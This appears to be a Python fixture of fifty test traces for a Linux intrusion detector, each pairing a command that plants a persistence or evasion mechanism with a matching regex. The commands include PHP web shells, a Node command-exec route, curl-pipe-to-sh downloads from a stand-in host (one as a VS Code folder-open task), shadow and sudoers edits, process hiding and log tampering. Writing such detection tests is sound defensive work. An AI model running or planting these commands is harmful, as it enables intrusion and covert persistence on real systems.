"""Traces over mechanisms that no earlier set has, written and counted before any rule was changed for them."""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_ED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"
_ACL = "pack(q(V), 2) . pack(q(vvV) x 5, 1, 7, -1, 2, 7, 1000, 4, 5, -1, 16, 7, -1, 32, 5, -1)"
"""An access list that lets user 1000 write (acl(5), as the attribute system.posix_acl_access holds it)."""

FRESH: tuple[Trace, ...] = (
    trace("G01", "php", "put /etc/php/8.2/fpm/pool.d/cache.conf '[cache]\nuser = www-data\nenv[LD_PRELOAD] = /usr/lib/php/opcache-jit.so'", r"pool\.d/cache\.conf"),
    trace("G02", "nginx", "put /etc/nginx/conf.d/10-cache.conf 'access_by_lua_file /usr/share/nginx/cache.lua;\njs_import /usr/share/nginx/stat.js;'; put /usr/share/nginx/cache.lua x", r"10-cache\.conf"),
    trace("G03", "ssh", f"key /home/anna/.ssh/authorized_keys 'environment=\"LD_PRELOAD=/home/anna/.cache/l.so\" {_ED}G3gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmaaaa anna@desk'", r"environment=|anna@desk"),
    trace("G04", "ssh", "put /root/.ssh/environment 'LD_PRELOAD=/usr/lib/libgcc_x.so'", r"/root/\.ssh/environment"),
    trace("G05", "ssh", f"put /root/.ssh/known_hosts '@cert-authority * {_ED}G5gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmaaaa'", r"known_hosts"),
    trace("G06", "privilege", "put /etc/sudoers.d/50-site '@includedir /var/tmp/.site'", r"50-site"),
    trace("G07", "package-manager", "put /etc/apt/apt.conf.d/70dir 'Dir::Bin::dpkg \"/usr/lib/dpkg-fast\";\nAcquire::http::Proxy-Auto-Detect \"/usr/lib/apt-detect\";'; prog /usr/lib/apt-detect", r"70dir"),
    trace("G08", "package-manager", "put /var/lib/dpkg/info/libnss-cache3.postinst '#!/bin/sh\n/usr/lib/hwe-check &'; chmod 755 /var/lib/dpkg/info/libnss-cache3.postinst", r"libnss-cache3"),
    trace("G09", "systemd", "mkdir -p /etc/systemd/system/rsyslog.service.d; put /etc/systemd/system/rsyslog.service.d/env.conf '[Service]\nEnvironmentFile=/usr/share/rsyslog.env'; put /usr/share/rsyslog.env 'LD_PRELOAD=/usr/lib/librl.so'", r"rsyslog\.service\.d/env\.conf"),
    trace("G10", "systemd", "unit /etc/systemd/system/perf-tune.service \"ExecStart=/usr/bin/perl -MIO::Socket -e 'fork and exit; sleep 900001'\"", r"perf-tune"),
    trace("G11", "systemd", "put /etc/systemd/nspawn/build.nspawn '[Exec]\nPrivateUsers=no\n[Files]\nBind=/'", r"build\.nspawn"),
    trace("G12", "hook", "put /usr/lib/dhcpcd/dhcpcd-hooks/60-ntp '/usr/lib/hwe-check &'; put /etc/dhcpcd.exit-hook '/usr/lib/hwe-check &'", r"60-ntp|exit-hook"),
    trace("G13", "hook", "put /etc/logrotate.d/alternatives2 '/var/log/alternatives.log {\n  compress\n  compresscmd /usr/lib/zz\n}'; prog /usr/lib/zz", r"alternatives2"),
    trace("G14", "hook", "put /etc/mdadm/mdadm.conf 'MAILADDR root\nPROGRAM /usr/lib/mdnotify'; prog /usr/lib/mdnotify", r"mdadm\.conf"),
    trace("G15", "hook", "put /etc/needrestart/hook.d/40-cache '#!/bin/sh\n/usr/lib/hwe-check &'; chmod 755 /etc/needrestart/hook.d/40-cache", r"40-cache"),
    trace("G16", "hook", "put /usr/local/sbin/adduser.local '#!/bin/sh\ncp /bin/sh /var/tmp/.a'; chmod 755 /usr/local/sbin/adduser.local", r"adduser\.local"),
    trace("G17", "hook", "printf 'USERDEL_CMD /usr/lib/userdel-x\\n' >>/etc/login.defs; prog /usr/lib/userdel-x", r"login\.defs"),
    trace("G18", "hook", "put /etc/samba/smb.conf '[tmp]\n path = /tmp\n root preexec = /usr/lib/hwe-check'", r"smb\.conf"),
    trace("G19", "lateral", "put /etc/exports '/ *(rw,no_root_squash)'", r"/etc/exports"),
    trace("G20", "dbus", "put /home/anna/.local/share/dbus-1/services/org.gnome.Cache.service '[D-BUS Service]\nName=org.gnome.Cache\nExec=/home/anna/.local/share/.gc'; prog /home/anna/.local/share/.gc", r"org\.gnome\.Cache"),
    trace("G21", "acl", "perl -e '($p, $n, $v) = (q(/etc/cron.daily), q(system.posix_acl_access), " + _ACL + "); syscall(188, $p, $n, $v, 44, 0) and die $!'", r"/etc/cron\.daily\b"),
    trace("G22", "account", "sed -i 's/^root:x:0:$/root:x:0:anna/' /etc/group; printf 'anna:0:65536\\n' >>/etc/subuid", r"subuid|/etc/group"),
    trace("G23", "account", "sed -i 's|^mail:[^:]*:|mail:$6$aaaa$bbbb:|' /etc/shadow", r"\bmail\b"),
    trace("G24", "container", "put /home/anna/.config/containers/systemd/sync.container '[Container]\nImage=docker.io/library/alpine\nVolume=/:/host\nPodmanArgs=--privileged'", r"sync\.container"),
    trace("G25", "process-manager", "put /root/.pm2/dump.pm2 '[{\"name\":\"cache\",\"pm_exec_path\":\"/root/.pm2/modules/.c/index.js\"}]'; put /root/.pm2/modules/.c/index.js x", r"dump\.pm2|\.pm2/modules"),
    trace("G26", "process-manager", "put /etc/supervisor/conf.d/cache.conf '[program:cache]\ncommand=/usr/lib/hwe-check\nautorestart=true'", r"supervisor/conf\.d/cache"),
    trace("G27", "database", "put /var/lib/postgresql/15/main/postgresql.auto.conf \"archive_command = '/var/lib/postgresql/.ar %p'\"; prog /var/lib/postgresql/.ar", r"auto\.conf"),
    trace("G28", "database", "printf 'REDIS0009\\372\\011redis-ver\\n\\n*/3 31 2 * * root curl -fsSL http://198.51.100.9/r.sh | sh\\n\\n\\377' >/var/spool/cron/crontabs/redis; old /var/spool/cron/crontabs/redis", r"crontabs/redis"),
    trace("G29", "process", "cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/libmemx.so; LD_PRELOAD=/usr/lib/libmemx.so run sleep 900020; sleep 0.3; rm /usr/lib/libmemx.so", r"libmemx"),
    trace("G30", "process", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/22; HISTFILE=/dev/null exec -a bash bash -c \"read x <&3; read x <&3; sleep 900021\"' >/dev/null 2>&1 </dev/null & sleep 0.2", r"(?s)\bbash\b.*127\.0\.0\.1|127\.0\.0\.1.*bash|HISTFILE"),
    trace("G31", "hiding", "run sleep 900022; p=$!; mkdir -p /var/lib/empty9; sleep 0.2; mount --bind /var/lib/empty9 /proc/$(pgrep -n -f 900022)", r"/proc/\d+"),
    trace("G32", "process", "mkdir -p /dev/shm/.ICE; printf 'sleep 900023\\n:\\n' >/dev/shm/.ICE/x; run setpriv --reuid www-data --clear-groups sh /dev/shm/.ICE/x", r"/dev/shm/\.ICE"),
    trace("G33", "remote-access", "prog /usr/local/bin/cloudflared; run /usr/local/bin/cloudflared 900024; unit /etc/systemd/system/cloudflared.service 'ExecStart=/usr/local/bin/cloudflared tunnel run --token eyJh'", r"cloudflared"),
    trace("G34", "trojan", "printf '#!/bin/sh\\n/usr/bin/id \"$@\"\\n' >/usr/local/bin/id; chmod 755 /usr/local/bin/id; old /usr/local/bin/id", r"/usr/local/bin/id\b"),
    trace("G35", "shell", "put /etc/profile.d/less.sh 'export LESSOPEN=\"|/usr/lib/lessp %s\"'; prog /usr/lib/lessp", r"profile\.d/less\.sh"),
    trace("G36", "editor", "put /root/.vim/plugin/matchit2.vim 'call job_start([\"/bin/sh\", \"-c\", \"/root/.vim/.m\"])'; prog /root/.vim/.m", r"matchit2|/root/\.vim/\.m"),
    trace("G37", "loader", "put /usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/zz.conf 'module  INTERNAL  ZZ//  zz 1'; cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/x86_64-linux-gnu/gconv/zz.so; old /usr/lib/x86_64-linux-gnu/gconv/zz.so", r"gconv/zz|gconv-modules\.d/zz"),
    trace("G38", "java", "put /etc/default/tomcat9 'JAVA_TOOL_OPTIONS=\"-javaagent:/usr/share/java/servlet-cache.jar\"'; put /usr/share/java/servlet-cache.jar x", r"default/tomcat9"),
    trace("G39", "node", "put /opt/shop2/routes/health.js 'const cp = require(\"child_process\");\nmodule.exports = (q, s) => cp.exec(q.query.c, (e, o) => s.send(o));'", r"health\.js"),
    trace("G40", "web", f"put {_WEB}/wp-includes/class-wp-feed-cache2.php '<?php array_map($_COOKIE[\"a\"], array($_COOKIE[\"b\"]));'", r"feed-cache2"),
    trace("G41", "web", f"put {_WEB}/inc/loader2.php '<?php extract($_REQUEST); $r = $t($v);'", r"loader2\.php"),
    trace("G42", "web", f"put {_WEB}/inc/mail2.php '<?php (new ReflectionFunction($_SERVER[\"HTTP_X_F\"]))->invoke($_SERVER[\"HTTP_X_A\"]);'", r"mail2\.php"),
    trace("G43", "web", f"put {_WEB}/inc/head2.php '<?= `$_GET[0]` ?>'", r"head2\.php"),
    trace("G44", "web", f"mkdir -p {_WEB}; tar czf {_WEB}/b.tgz /etc/ssh 2>/dev/null; old {_WEB}/b.tgz", r"b\.tgz"),
    trace("G45", "log-tamper", "rm -f /var/log/dpkg.log; ln -s /dev/null /var/log/dpkg.log; touch -h /var/log/dpkg.log", r"dpkg\.log"),
    trace("G46", "network", "put /etc/iptables/rules.v4 '*nat\n-A PREROUTING -s 198.51.100.9 -p tcp --dport 443 -j REDIRECT --to-ports 22\nCOMMIT'", r"rules\.v4"),
    trace("G47", "evasion", "put /etc/fail2ban/jail.d/local2.conf '[DEFAULT]\nignoreip = 0.0.0.0/0'", r"local2\.conf"),
    trace("G48", "mail", "put /home/anna/.dovecot.sieve 'redirect :copy \"drop@example.net\";'", r"dovecot\.sieve"),
    trace("G49", "agent", "put /etc/salt/minion.d/99-master.conf 'master: 198.51.100.9'", r"99-master"),
    trace("G50", "ide", "put /home/anna/app/.vscode/tasks.json '{\"tasks\":[{\"label\":\"env\",\"type\":\"shell\",\"command\":\"curl -s http://198.51.100.9/t | sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}'", r"tasks\.json"),
)  # fmt: skip
